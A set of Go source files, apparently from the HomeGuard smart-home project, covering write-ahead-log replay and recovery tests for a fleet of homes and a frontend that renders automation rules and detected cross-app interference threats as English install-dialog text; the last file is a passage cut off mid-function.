// be attached yet (replayed ops are not re-appended).
func (f *Fleet) ReplayWALRecord(lsn uint64, kind byte, payload []byte) error {
	switch kind {
	case wal.OpFleetInstall:
		var op installOp
		if err := json.Unmarshal(payload, &op); err != nil {
			return fmt.Errorf("fleet: replay lsn %d: install op: %w", lsn, err)
		}
		cfg, err := detect.UnmarshalConfig(op.Config)
		if err != nil {
			return fmt.Errorf("fleet: replay lsn %d: %w", lsn, err)
		}
		return f.replayInstall(lsn, op.Home, op.Source, cfg)
	case wal.OpFleetReconfigure:
		var op reconfigureOp
		if err := json.Unmarshal(payload, &op); err != nil {
			return fmt.Errorf("fleet: replay lsn %d: reconfigure op: %w", lsn, err)
		}
		cfg, err := detect.UnmarshalConfig(op.Config)
		if err != nil {
			return fmt.Errorf("fleet: replay lsn %d: %w", lsn, err)
		}
		return f.replayReconfigure(lsn, op.Home, op.App, cfg)
	case wal.OpFleetAccept:
		var op acceptOp
		if err := json.Unmarshal(payload, &op); err != nil {
			return fmt.Errorf("fleet: replay lsn %d: accept op: %w", lsn, err)
		}
		return f.replayAccept(lsn, op)
	case wal.OpFleetRemoveHome:
		var op removeHomeOp
		if err := json.Unmarshal(payload, &op); err != nil {
			return fmt.Errorf("fleet: replay lsn %d: remove-home op: %w", lsn, err)
		}
		return f.replayRemoveHome(lsn, op.Home)
	case wal.OpFleetAdoptHome:
		var op adoptHomeOp
		if err := json.Unmarshal(payload, &op); err != nil {
			return fmt.Errorf("fleet: replay lsn %d: adopt-home op: %w", lsn, err)
		}
		return f.replayAdoptHome(lsn, op.Home, op.Snapshot)
	}
	return fmt.Errorf("fleet: replay lsn %d: unknown op kind %d", lsn, kind)
}

// replayInstall re-applies one acknowledged install: extraction through
// the shared cache (warm after a checkpoint restore), then the same
// locked mutations Install performs. Chains, the rendered report and
// events are presentation, not state — they are skipped.
func (f *Fleet) replayInstall(lsn uint64, homeID, src string, cfg *detect.Config) error {
	if f.tombstoneCovers(homeID, lsn) {
		// The home was removed (migrated away) at a later LSN: applying
		// this record would resurrect it. Checked before homeFor so the
		// skip does not even create an empty home.
		return nil
	}
	res, err := f.cache.Extract(src, "")
	if err != nil {
		return fmt.Errorf("fleet: replay lsn %d: home %s: %w", lsn, homeID, err)
	}
	h := f.homeFor(homeID)
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.walLSN >= lsn {
		return nil // already in the checkpoint
	}
	for _, a := range h.det.Apps() {
		if a.Info.Name == res.App.Name {
			return fmt.Errorf("fleet: replay lsn %d: home %s: app %q already installed", lsn, homeID, res.App.Name)
		}
	}
	threats := h.det.Install(detect.NewInstalledApp(res, cfg))
	h.threats = append(h.threats, threats...)
	h.ledger = append(h.ledger, h.groupRuns(threats)...)
	h.walLSN = lsn
	h.detSeen = detectorTotalsOf(h.det.Stats())
	return nil
}

func (f *Fleet) replayReconfigure(lsn uint64, homeID, appName string, cfg *detect.Config) error {
	if f.tombstoneCovers(homeID, lsn) {
		return nil // home removed at a later LSN; see replayInstall
	}
	h := f.lookup(homeID)
	if h == nil {
		return fmt.Errorf("fleet: replay lsn %d: %w %q", lsn, ErrUnknownHome, homeID)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.walLSN >= lsn {
		return nil
	}
	threats, err := h.det.Reconfigure(appName, cfg)
	if err != nil {
		return fmt.Errorf("fleet: replay lsn %d: home %s: %w", lsn, homeID, err)
	}
	h.threats = append(h.threats, threats...)
	h.spliceLedger(appName, threats)
	h.walLSN = lsn
	h.detSeen = detectorTotalsOf(h.det.Stats())
	return nil
}

func (f *Fleet) replayAccept(lsn uint64, op acceptOp) error {
	if f.tombstoneCovers(op.Home, lsn) {
		return nil // home removed at a later LSN; see replayInstall
	}
	h := f.lookup(op.Home)
	if h == nil {
		return fmt.Errorf("fleet: replay lsn %d: %w %q", lsn, ErrUnknownHome, op.Home)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.walLSN >= lsn {
		return nil
	}
	if len(op.Threats) > 0 {
		ts, err := detect.UnmarshalThreats(op.Threats)
		if err != nil {
			return fmt.Errorf("fleet: replay lsn %d: home %s: %w", lsn, op.Home, err)
		}
		for _, t := range ts {
			h.det.Accept(t)
		}
	}
	for _, i := range op.Indices {
		if i < 0 || i >= len(h.threats) {
			return fmt.Errorf("fleet: replay lsn %d: home %s: %w: %d (log has %d)",
				lsn, op.Home, ErrBadThreatIndex, i, len(h.threats))
		}
		h.det.Accept(h.threats[i])
	}
	h.walLSN = lsn
	return nil
}

// replayRemoveHome re-applies a DetachHome: the home leaves the map and
// its tombstone is (re-)recorded. The home being absent already — the
// checkpoint captured the removal, or it was never recreated by earlier
// records thanks to the tombstone — is the normal case, not an error.
func (f *Fleet) replayRemoveHome(lsn uint64, homeID string) error {
	f.setTombstone(homeID, lsn)
	s := f.shardFor(homeID)
	s.mu.Lock()
	h := s.homes[homeID]
	if h == nil {
		s.mu.Unlock()
		return nil
	}
	h.mu.Lock()
	if h.walLSN >= lsn {
		// The home was recreated (adopted back) at a later LSN the
		// checkpoint already captured; this stale removal must not touch it.
		h.mu.Unlock()
		s.mu.Unlock()
		return nil
	}
	h.migrated = true
	h.mu.Unlock()
	delete(s.homes, homeID)
	s.mu.Unlock()
	f.metrics.homeRemoved()
	return nil
}

// replayAdoptHome re-applies an ImportHome from the blob the record
// carries. An already-populated home below the record's LSN is state
// divergence (the checkpoint cannot contain a different home under the
// same ID unless the log is inconsistent) and fails recovery.
func (f *Fleet) replayAdoptHome(lsn uint64, homeID string, blob []byte) error {
	if f.tombstoneCovers(homeID, lsn) {
		return nil // adopted home was migrated away again at a later LSN
	}
	hs, table, err := decodeHomeExport(blob)
	if err != nil {
		return fmt.Errorf("fleet: replay lsn %d: %w", lsn, err)
	}
	if hs.ID != homeID {
		return fmt.Errorf("fleet: replay lsn %d: adopt record for home %q carries snapshot of %q", lsn, homeID, hs.ID)
	}
	h := f.homeFor(homeID)
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.walLSN >= lsn {
		return nil // already in the checkpoint
	}
	if err := f.adoptUnderLock(h, hs, table); err != nil {
		return fmt.Errorf("fleet: replay lsn %d: %w", lsn, err)
	}
	h.walLSN = lsn
	return nil
}
