package fleet

import (
	"bytes"
	"context"
	"fmt"
	"testing"

	"homeguard/internal/detect"
	"homeguard/internal/wal"
)

func openWAL(t *testing.T, dir string) *wal.Log {
	t.Helper()
	l, err := wal.Open(wal.Options{Dir: dir, Fsync: wal.FsyncOff})
	if err != nil {
		t.Fatalf("wal.Open: %v", err)
	}
	return l
}

// driveOps runs a fixed mutation storm — installs across three homes, a
// reconfigure, accepts by value and by index — used by every recovery
// test as "the acknowledged history".
func driveOps(t *testing.T, f *Fleet) {
	t.Helper()
	ctx := context.Background()
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	for h := 0; h < 3; h++ {
		id := fmt.Sprintf("home-%d", h)
		for _, n := range apps[:3+h%2] {
			if _, err := f.Install(ctx, id, mustSource(t, n), nil); err != nil {
				t.Fatalf("install %s into %s: %v", n, id, err)
			}
		}
	}
	cfg := detect.NewConfig()
	cfg.Devices["tv1"] = "tv-42"
	if _, err := f.Reconfigure(ctx, "home-0", "ComfortTV", cfg); err != nil {
		t.Fatalf("reconfigure: %v", err)
	}
	ts, err := f.Threats("home-0")
	if err != nil {
		t.Fatal(err)
	}
	if len(ts) > 0 {
		if err := f.AcceptByIndex("home-0", 0); err != nil {
			t.Fatalf("accept by index: %v", err)
		}
		if err := f.Accept("home-1", ts[0]); err != nil {
			t.Fatalf("accept: %v", err)
		}
	}
}

// assertFleetsEqual compares the durable state two fleets serve: home
// set, installed apps, the append-only threat log and the active ledger.
func assertFleetsEqual(t *testing.T, want, got *Fleet) {
	t.Helper()
	wantIDs, gotIDs := want.HomeIDs(), got.HomeIDs()
	if fmt.Sprint(wantIDs) != fmt.Sprint(gotIDs) {
		t.Fatalf("home IDs: got %v, want %v", gotIDs, wantIDs)
	}
	for _, id := range wantIDs {
		wa, _ := want.Apps(id)
		ga, _ := got.Apps(id)
		if fmt.Sprint(wa) != fmt.Sprint(ga) {
			t.Errorf("home %s apps: got %v, want %v", id, ga, wa)
		}
		wt, _ := want.Threats(id)
		gt, _ := got.Threats(id)
		wb, err := detect.MarshalThreats(wt)
		if err != nil {
			t.Fatal(err)
		}
		gb, err := detect.MarshalThreats(gt)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(wb, gb) {
			t.Errorf("home %s threat log diverged: %d vs %d threats", id, len(gt), len(wt))
		}
		wat, _ := want.ActiveThreats(id)
		gat, _ := got.ActiveThreats(id)
		wab, _ := detect.MarshalThreats(wat)
		gab, _ := detect.MarshalThreats(gat)
		if !bytes.Equal(wab, gab) {
			t.Errorf("home %s active ledger diverged: %d vs %d threats", id, len(gat), len(wat))
		}
	}
}

// TestFleetWALReplayFromScratch rebuilds a fleet from nothing but the
// log: every acknowledged op replays into byte-identical serving state.
func TestFleetWALReplayFromScratch(t *testing.T) {
	dir := t.TempDir()
	f := New(Options{})
	l := openWAL(t, dir)
	f.AttachWAL(l)
	driveOps(t, f)
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	g := New(Options{})
	rl := openWAL(t, dir)
	if err := rl.Replay(0, g.ReplayWALRecord); err != nil {
		t.Fatalf("replay: %v", err)
	}
	g.AttachWAL(rl)
	assertFleetsEqual(t, f, g)

	// The recovered fleet keeps serving — and keeps logging.
	if _, err := g.Install(context.Background(), "home-9", mustSource(t, "NightCare"), nil); err != nil {
		t.Fatalf("install after recovery: %v", err)
	}
	rl.Close()
}

// TestFleetSnapshotRestore round-trips homes through the checkpoint
// section alone (no log) and checks AcceptByIndex addressing survives.
func TestFleetSnapshotRestore(t *testing.T) {
	f := New(Options{})
	driveOps(t, f)

	var buf bytes.Buffer
	n, err := f.SnapshotHomes(&buf)
	if err != nil {
		t.Fatalf("SnapshotHomes: %v", err)
	}
	if n != f.NumHomes() {
		t.Fatalf("snapshot wrote %d homes, fleet has %d", n, f.NumHomes())
	}

	g := New(Options{})
	rn, err := g.RestoreHomes(&buf)
	if err != nil {
		t.Fatalf("RestoreHomes: %v", err)
	}
	if rn != n {
		t.Fatalf("restored %d homes, want %d", rn, n)
	}
	assertFleetsEqual(t, f, g)

	// The restored threat log still addresses: accept by index works on
	// the same indices the original fleet would accept.
	ts, err := g.Threats("home-0")
	if err != nil {
		t.Fatal(err)
	}
	if len(ts) > 0 {
		if err := g.AcceptByIndex("home-0", len(ts)-1); err != nil {
			t.Fatalf("AcceptByIndex after restore: %v", err)
		}
	}

	// And both fleets evolve identically from here (accepted threats,
	// configs and the index all came back: a further install must report
	// the same threats and chains on both sides).
	r1, err := f.Install(context.Background(), "home-1", mustSource(t, "NightCare"), nil)
	if err != nil {
		t.Fatal(err)
	}
	r2, err := g.Install(context.Background(), "home-1", mustSource(t, "NightCare"), nil)
	if err != nil {
		t.Fatal(err)
	}
	b1, _ := detect.MarshalThreats(r1.Threats)
	b2, _ := detect.MarshalThreats(r2.Threats)
	if !bytes.Equal(b1, b2) {
		t.Errorf("post-restore install diverged: %d vs %d threats", len(r2.Threats), len(r1.Threats))
	}
	if fmt.Sprint(r1.Chains) != fmt.Sprint(r2.Chains) {
		t.Errorf("post-restore chains diverged: %v vs %v", r2.Chains, r1.Chains)
	}
	if r1.ThreatLogBase != r2.ThreatLogBase {
		t.Errorf("ThreatLogBase diverged: %d vs %d", r2.ThreatLogBase, r1.ThreatLogBase)
	}
}

// TestFleetCheckpointPlusReplay is the full recovery path: a checkpoint
// taken mid-stream plus the log replayed on top must equal the final
// state — records at or below each home's watermark are skipped, records
// above it apply exactly once.
func TestFleetCheckpointPlusReplay(t *testing.T) {
	dir := t.TempDir()
	ctx := context.Background()
	f := New(Options{})
	l := openWAL(t, dir)
	f.AttachWAL(l)

	// Phase 1: some ops, then the checkpoint.
	for h := 0; h < 2; h++ {
		id := fmt.Sprintf("home-%d", h)
		for _, n := range []string{"ComfortTV", "ColdDefender"} {
			if _, err := f.Install(ctx, id, mustSource(t, n), nil); err != nil {
				t.Fatal(err)
			}
		}
	}
	var ckpt bytes.Buffer
	if _, err := f.SnapshotHomes(&ckpt); err != nil {
		t.Fatal(err)
	}

	// Phase 2: more ops after the checkpoint — replay must apply exactly
	// these on top of the restore.
	if _, err := f.Install(ctx, "home-0", mustSource(t, "CatchLiveShow"), nil); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Install(ctx, "home-2", mustSource(t, "NightCare"), nil); err != nil {
		t.Fatal(err)
	}
	cfg := detect.NewConfig()
	cfg.Devices["tv1"] = "tv-7"
	if _, err := f.Reconfigure(ctx, "home-1", "ComfortTV", cfg); err != nil {
		t.Fatal(err)
	}
	if ts, _ := f.Threats("home-1"); len(ts) > 0 {
		if err := f.AcceptByIndex("home-1", 0); err != nil {
			t.Fatal(err)
		}
	}
	l.Close()

	g := New(Options{})
	if _, err := g.RestoreHomes(&ckpt); err != nil {
		t.Fatalf("restore: %v", err)
	}
	rl := openWAL(t, dir)
	if err := rl.Replay(0, g.ReplayWALRecord); err != nil {
		t.Fatalf("replay: %v", err)
	}
	g.AttachWAL(rl)
	defer rl.Close()
	assertFleetsEqual(t, f, g)
}

// TestFleetWALCrashStops checks the crash-stop contract: once an append
// fails, every later mutation is refused un-acknowledged.
func TestFleetWALCrashStops(t *testing.T) {
	dir := t.TempDir()
	// Budget enough for the segment header and one or two records, then
	// the crash.
	fs := wal.NewCrashFS(600, 0)
	l, err := wal.Open(wal.Options{Dir: dir, Fsync: wal.FsyncAlways, FS: fs})
	if err != nil {
		t.Fatalf("wal.Open: %v", err)
	}
	f := New(Options{})
	f.AttachWAL(l)
	ctx := context.Background()
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	acked := 0
	var firstErr error
	for i, n := range apps {
		if _, err := f.Install(ctx, fmt.Sprintf("home-%d", i), mustSource(t, n), nil); err != nil {
			firstErr = err
			break
		}
		acked++
	}
	if firstErr == nil {
		t.Fatal("no install hit the crash point; raise the op count or lower the budget")
	}
	// Everything after the crash is refused too.
	if _, err := f.Install(ctx, "home-z", mustSource(t, "NightCare"), nil); err == nil {
		t.Fatal("install acknowledged after a WAL append failure")
	}
	// Recovery from the real directory yields exactly the acked ops.
	g := New(Options{})
	rl := openWAL(t, dir)
	defer rl.Close()
	replayed := 0
	if err := rl.Replay(0, func(lsn uint64, kind byte, payload []byte) error {
		replayed++
		return g.ReplayWALRecord(lsn, kind, payload)
	}); err != nil {
		t.Fatalf("replay: %v", err)
	}
	if replayed < acked || replayed > acked+1 {
		t.Fatalf("recovered %d ops, acked %d (at most one in-flight record may survive)", replayed, acked)
	}
}
