// Package frontend implements the HomeGuard frontend's interpreters
// (Sec. IV-C): the rule interpreter renders extracted rules in a
// human-readable form so users can check that an app behaves as claimed,
// and the threat interpreter explains discovered CAI threats so users can
// decide whether to keep, remove or re-configure the new app (Fig. 7b).
package frontend

import (
	"fmt"
	"strings"

	"homeguard/internal/detect"
	"homeguard/internal/rule"
	"homeguard/internal/solver"
)

// DescribeRule renders one rule as an English sentence.
func DescribeRule(r *rule.Rule) string {
	var sb strings.Builder
	sb.WriteString("When ")
	sb.WriteString(describeTrigger(r.Trigger))
	if !r.Condition.Always() {
		sb.WriteString(", if ")
		sb.WriteString(describeCondition(r.Condition))
	}
	sb.WriteString(", then ")
	sb.WriteString(describeAction(r.Action))
	sb.WriteString(".")
	return sb.String()
}

func describeTrigger(t rule.Trigger) string {
	switch t.Subject {
	case "time":
		return "the scheduled time arrives"
	case "app":
		return "the app button is tapped"
	}
	subj := t.Subject
	if t.Subject == "location" {
		subj = "the home"
	}
	if t.AnyChange() {
		return fmt.Sprintf("%s's %s changes", subj, t.Attribute)
	}
	return fmt.Sprintf("%s's %s becomes %s", subj, t.Attribute, describeConstraintValue(t.Constraint))
}

// describeConstraintValue extracts the compared value(s) from a trigger
// constraint for compact rendering.
func describeConstraintValue(c rule.Constraint) string {
	switch x := c.(type) {
	case rule.Cmp:
		op := ""
		switch x.Op {
		case rule.OpEq:
			op = ""
		case rule.OpNe:
			op = "not "
		case rule.OpGt:
			op = "more than "
		case rule.OpGe:
			op = "at least "
		case rule.OpLt:
			op = "less than "
		case rule.OpLe:
			op = "at most "
		}
		return op + termText(x.R)
	case rule.And:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = describeConstraintValue(sub)
		}
		return strings.Join(parts, " and ")
	}
	return c.String()
}

func termText(t rule.Term) string {
	switch x := t.(type) {
	case rule.StrVal:
		return string(x)
	case rule.IntVal:
		return fmt.Sprintf("%d", int64(x))
	case rule.Var:
		return "the configured " + x.Name
	case rule.Sum:
		return x.String()
	case rule.BoolVal:
		return fmt.Sprintf("%t", bool(x))
	}
	return t.String()
}

func describeCondition(c rule.Condition) string {
	f := c.Formula()
	return constraintText(f)
}

func constraintText(c rule.Constraint) string {
	switch x := c.(type) {
	case rule.Cmp:
		var op string
		switch x.Op {
		case rule.OpEq:
			op = "is"
		case rule.OpNe:
			op = "is not"
		case rule.OpGt:
			op = "is above"
		case rule.OpGe:
			op = "is at least"
		case rule.OpLt:
			op = "is below"
		case rule.OpLe:
			op = "is at most"
		}
		return fmt.Sprintf("%s %s %s", varText(x.L), op, termText(x.R))
	case rule.And:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = constraintText(sub)
		}
		return strings.Join(parts, " and ")
	case rule.Or:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = constraintText(sub)
		}
		return "(" + strings.Join(parts, " or ") + ")"
	case rule.Not:
		return "not (" + constraintText(x.C) + ")"
	case rule.Lit:
		if bool(x) {
			return "always"
		}
		return "never"
	}
	return c.String()
}

func varText(t rule.Term) string {
	if v, ok := t.(rule.Var); ok {
		return strings.ReplaceAll(v.Name, ".", "'s ")
	}
	return termText(t)
}

func describeAction(a rule.Action) string {
	var verb string
	switch a.Command {
	case "setLocationMode":
		verb = "set the home mode"
		if len(a.Params) > 0 {
			verb += " to " + termText(a.Params[0])
		}
	case "sendSms", "sendSmsMessage", "sendPush", "sendNotification":
		verb = "send a notification"
	default:
		verb = fmt.Sprintf("issue %s's %s", a.Subject, a.Command)
		if len(a.Params) > 0 {
			parts := make([]string, len(a.Params))
			for i, p := range a.Params {
				parts[i] = termText(p)
			}
			verb += "(" + strings.Join(parts, ", ") + ")"
		}
	}
	if a.When > 0 {
		verb += fmt.Sprintf(" after %d seconds", a.When)
	} else if a.When < 0 {
		verb += " after a configured delay"
	}
	if a.Period > 0 {
		verb += fmt.Sprintf(", repeating every %d seconds", a.Period)
	}
	return verb
}

// DescribeThreat renders one discovered threat for the installation
// dialog.
func DescribeThreat(t detect.Threat) string {
	var sb strings.Builder
	sb.Grow(160)
	describeThreatInto(&sb, t)
	return sb.String()
}

// describeThreatInto is the builder-writing core of DescribeThreat: the
// install report renders every threat of every install, so the text is
// assembled with direct writes instead of one fmt.Sprintf per clause.
func describeThreatInto(sb *strings.Builder, t detect.Threat) {
	sb.WriteString("[")
	sb.WriteString(string(t.Kind))
	sb.WriteString("] ")
	sb.WriteString(kindTitle(t.Kind))
	sb.WriteString(": ")
	id1, id2 := t.R1.QualifiedID(), t.R2.QualifiedID()
	switch t.Kind {
	case detect.ActuatorRace:
		sb.WriteString("rules ")
		sb.WriteString(id1)
		sb.WriteString(" and ")
		sb.WriteString(id2)
		sb.WriteString(" can run in the same situation and issue contradictory commands (")
		sb.WriteString(t.R1.Action.Command)
		sb.WriteString(" vs ")
		sb.WriteString(t.R2.Action.Command)
		sb.WriteString(") to the same device.")
	case detect.GoalConflict:
		sb.WriteString("rules ")
		sb.WriteString(id1)
		sb.WriteString(" and ")
		sb.WriteString(id2)
		sb.WriteString(" work against each other on ")
		sb.WriteString(string(t.Property))
		sb.WriteString(" (")
		sb.WriteString(t.R1.Action.Subject)
		sb.WriteString("(")
		sb.WriteString(t.R1.Action.Command)
		sb.WriteString(") vs ")
		sb.WriteString(t.R2.Action.Subject)
		sb.WriteString("(")
		sb.WriteString(t.R2.Action.Command)
		sb.WriteString(")).")
	case detect.CovertTriggering:
		sb.WriteString("rule ")
		sb.WriteString(id1)
		sb.WriteString("'s action can covertly trigger rule ")
		sb.WriteString(id2)
		sb.WriteString(", forming the hidden rule: when ")
		sb.WriteString(describeTrigger(t.R1.Trigger))
		sb.WriteString(", eventually ")
		sb.WriteString(describeAction(t.R2.Action))
		sb.WriteString(".")
	case detect.SelfDisabling:
		sb.WriteString("rule ")
		sb.WriteString(id1)
		sb.WriteString(" triggers rule ")
		sb.WriteString(id2)
		sb.WriteString(", which immediately reverses ")
		sb.WriteString(id1)
		sb.WriteString("'s action.")
	case detect.LoopTriggering:
		sb.WriteString("rules ")
		sb.WriteString(id1)
		sb.WriteString(" and ")
		sb.WriteString(id2)
		sb.WriteString(" trigger each other in a loop with contradictory actions — devices may oscillate.")
	case detect.EnablingCondition:
		sb.WriteString("rule ")
		sb.WriteString(id1)
		sb.WriteString("'s action can enable rule ")
		sb.WriteString(id2)
		sb.WriteString("'s condition.")
	case detect.DisablingCond:
		sb.WriteString("rule ")
		sb.WriteString(id1)
		sb.WriteString("'s action disables rule ")
		sb.WriteString(id2)
		sb.WriteString("'s condition — ")
		sb.WriteString(t.R2.App)
		sb.WriteString(" may silently stop working.")
	}
	if len(t.Witness) > 0 {
		sb.WriteString(" Example situation: ")
		witnessInto(sb, t)
	}
}

func kindTitle(k detect.Kind) string {
	switch k {
	case detect.ActuatorRace:
		return "Actuator Race"
	case detect.GoalConflict:
		return "Goal Conflict"
	case detect.CovertTriggering:
		return "Covert Triggering"
	case detect.SelfDisabling:
		return "Self Disabling"
	case detect.LoopTriggering:
		return "Loop Triggering"
	case detect.EnablingCondition:
		return "Enabling-Condition Interference"
	case detect.DisablingCond:
		return "Disabling-Condition Interference"
	}
	return string(k)
}

// witnessInto writes the example-situation clause: up to six variable
// assignments sorted by variable name (variable names contain no spaces,
// so name order and rendered "name = value" order coincide). One scratch
// slice is the only allocation besides the builder's own growth.
func witnessInto(sb *strings.Builder, t detect.Threat) {
	type entry struct {
		name string
		v    solver.Value
	}
	entries := make([]entry, 0, len(t.Witness))
	for name, v := range t.Witness {
		if strings.HasPrefix(v.Enum, "\x00") {
			continue
		}
		entries = append(entries, entry{name, v})
	}
	for i := 1; i < len(entries); i++ {
		for j := i; j > 0 && entries[j].name < entries[j-1].name; j-- {
			entries[j], entries[j-1] = entries[j-1], entries[j]
		}
	}
	if len(entries) > 6 {
		entries = entries[:6]
	}
	for i, e := range entries {
		if i > 0 {
			sb.WriteString(", ")
		}
		sb.WriteString(e.name)
		sb.WriteString(" = ")
		// Keep in lockstep with solver.Value.String — this is the same
		// enum-name-else-integer rendering, written into the builder to
		// avoid materializing the intermediate string per variable.
		if e.v.Enum != "" {
			sb.WriteString(e.v.Enum)
		} else {
			fmt.Fprintf(sb, "%d", e.v.Int)
		}
	}
	sb.WriteString(".")
}

// DescribeChain renders a multi-hop interference chain (Sec. VI-D).
func DescribeChain(c detect.Chain) string {
	var sb strings.Builder
	sb.WriteString("interference chain: ")
	for i, r := range c.Rules {
		if i > 0 {
			kind := "?"
			if i-1 < len(c.Kinds) {
				kind = string(c.Kinds[i-1])
			}
			sb.WriteString(fmt.Sprintf(" —%s→ ", kind))
		}
		sb.WriteString(r.QualifiedID())
	}
	sb.WriteString(" — the first rule's action can ripple through ")
	sb.WriteString(fmt.Sprintf("%d accepted interference(s).", len(c.Rules)-1))
	return sb.String()
}

// InstallReport renders the full installation dialog: the new app's rules
// followed by every discovered threat.
func InstallReport(appName string, rules []*rule.Rule, threats []detect.Threat) string {
	var sb strings.Builder
	installReportInto(&sb, appName, rules, threats)
	return sb.String()
}

func installReportInto(sb *strings.Builder, appName string, rules []*rule.Rule, threats []detect.Threat) {
	sb.Grow(256)
	sb.WriteString("HomeGuard — installing ")
	sb.WriteString(appName)
	sb.WriteString("\n")
	sb.WriteString("========================================\n")
	sb.WriteString("This app defines:\n")
	for _, r := range rules {
		sb.WriteString("  • ")
		sb.WriteString(DescribeRule(r))
		sb.WriteString("\n")
	}
	if len(threats) == 0 {
		sb.WriteString("No cross-app interference detected.\n")
		return
	}
	fmt.Fprintf(sb, "%d potential cross-app interference threat(s):\n", len(threats))
	for _, t := range threats {
		sb.WriteString("  ⚠ ")
		describeThreatInto(sb, t)
		sb.WriteString("\n")
	}
	sb.WriteString("Keep the app, remove it, or change its configuration.\n")
}

// InstallDialog renders the installation dialog including chained-threat
// lines — the complete text both the library (homeguard.Home) and the
// fleet service show at install time.
func InstallDialog(appName string, rules []*rule.Rule, threats []detect.Threat, chains []detect.Chain) string {
	var sb strings.Builder
	installReportInto(&sb, appName, rules, threats)
	for _, c := range chains {
		sb.WriteString("  ⛓ ")
		sb.WriteString(DescribeChain(c))
		sb.WriteString("\n")
	}
	return sb.String()
}
