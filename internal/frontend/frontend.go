// Package frontend implements the HomeGuard frontend's interpreters
// (Sec. IV-C): the rule interpreter renders extracted rules in a
// human-readable form so users can check that an app behaves as claimed,
// and the threat interpreter explains discovered CAI threats so users can
// decide whether to keep, remove or re-configure the new app (Fig. 7b).
package frontend

import (
	"fmt"
	"strings"

	"homeguard/internal/detect"
	"homeguard/internal/rule"
)

// DescribeRule renders one rule as an English sentence.
func DescribeRule(r *rule.Rule) string {
	var sb strings.Builder
	sb.WriteString("When ")
	sb.WriteString(describeTrigger(r.Trigger))
	if !r.Condition.Always() {
		sb.WriteString(", if ")
		sb.WriteString(describeCondition(r.Condition))
	}
	sb.WriteString(", then ")
	sb.WriteString(describeAction(r.Action))
	sb.WriteString(".")
	return sb.String()
}

func describeTrigger(t rule.Trigger) string {
	switch t.Subject {
	case "time":
		return "the scheduled time arrives"
	case "app":
		return "the app button is tapped"
	}
	subj := t.Subject
	if t.Subject == "location" {
		subj = "the home"
	}
	if t.AnyChange() {
		return fmt.Sprintf("%s's %s changes", subj, t.Attribute)
	}
	return fmt.Sprintf("%s's %s becomes %s", subj, t.Attribute, describeConstraintValue(t.Constraint))
}

// describeConstraintValue extracts the compared value(s) from a trigger
// constraint for compact rendering.
func describeConstraintValue(c rule.Constraint) string {
	switch x := c.(type) {
	case rule.Cmp:
		op := ""
		switch x.Op {
		case rule.OpEq:
			op = ""
		case rule.OpNe:
			op = "not "
		case rule.OpGt:
			op = "more than "
		case rule.OpGe:
			op = "at least "
		case rule.OpLt:
			op = "less than "
		case rule.OpLe:
			op = "at most "
		}
		return op + termText(x.R)
	case rule.And:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = describeConstraintValue(sub)
		}
		return strings.Join(parts, " and ")
	}
	return c.String()
}

func termText(t rule.Term) string {
	switch x := t.(type) {
	case rule.StrVal:
		return string(x)
	case rule.IntVal:
		return fmt.Sprintf("%d", int64(x))
	case rule.Var:
		return "the configured " + x.Name
	case rule.Sum:
		return x.String()
	case rule.BoolVal:
		return fmt.Sprintf("%t", bool(x))
	}
	return t.String()
}

func describeCondition(c rule.Condition) string {
	f := c.Formula()
	return constraintText(f)
}

func constraintText(c rule.Constraint) string {
	switch x := c.(type) {
	case rule.Cmp:
		var op string
		switch x.Op {
		case rule.OpEq:
			op = "is"
		case rule.OpNe:
			op = "is not"
		case rule.OpGt:
			op = "is above"
		case rule.OpGe:
			op = "is at least"
		case rule.OpLt:
			op = "is below"
		case rule.OpLe:
			op = "is at most"
		}
		return fmt.Sprintf("%s %s %s", varText(x.L), op, termText(x.R))
	case rule.And:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = constraintText(sub)
		}
		return strings.Join(parts, " and ")
	case rule.Or:
		parts := make([]string, len(x.Cs))
		for i, sub := range x.Cs {
			parts[i] = constraintText(sub)
		}
		return "(" + strings.Join(parts, " or ") + ")"
	case rule.Not:
		return "not (" + constraintText(x.C) + ")"
	case rule.Lit:
		if bool(x) {
			return "always"
		}
		return "never"
	}
	return c.String()
}

func varText(t rule.Term) string {
	if v, ok := t.(rule.Var); ok {
		return strings.ReplaceAll(v.Name, ".", "'s ")
	}
	return termText(t)
}

func describeAction(a rule.Action) string {
	var verb string
	switch a.Command {
	case "setLocationMode":
		verb = "set the home mode"
		if len(a.Params) > 0 {
			verb += " to " + termText(a.Params[0])
		}
	case "sendSms", "sendSmsMessage", "sendPush", "sendNotification":
		verb = "send a notification"
	default:
		verb = fmt.Sprintf("issue %s's %s", a.Subject, a.Command)
		if len(a.Params) > 0 {
			parts := make([]string, len(a.Params))
			for i, p := range a.Params {
				parts[i] = termText(p)
			}
			verb += "(" + strings.Join(parts, ", ") + ")"
		}
	}
	if a.When > 0 {
		verb += fmt.Sprintf(" after %d seconds", a.When)
	} else if a.When < 0 {
		verb += " after a configured delay"
	}
	if a.Period > 0 {
		verb += fmt.Sprintf(", repeating every %d seconds", a.Period)
	}
	return verb
}

// DescribeThreat renders one discovered threat for the installation
// dialog.
func DescribeThreat(t detect.Threat) string {
	var sb strings.Builder
	sb.WriteString(fmt.Sprintf("[%s] %s: ", t.Kind, kindTitle(t.Kind)))
	switch t.Kind {
	case detect.ActuatorRace:
		sb.WriteString(fmt.Sprintf(
			"rules %s and %s can run in the same situation and issue contradictory commands (%s vs %s) to the same device.",
			t.R1.QualifiedID(), t.R2.QualifiedID(), t.R1.Action.Command, t.R2.Action.Command))
	case detect.GoalConflict:
		sb.WriteString(fmt.Sprintf(
			"rules %s and %s work against each other on %s (%s(%s) vs %s(%s)).",
			t.R1.QualifiedID(), t.R2.QualifiedID(), t.Property,
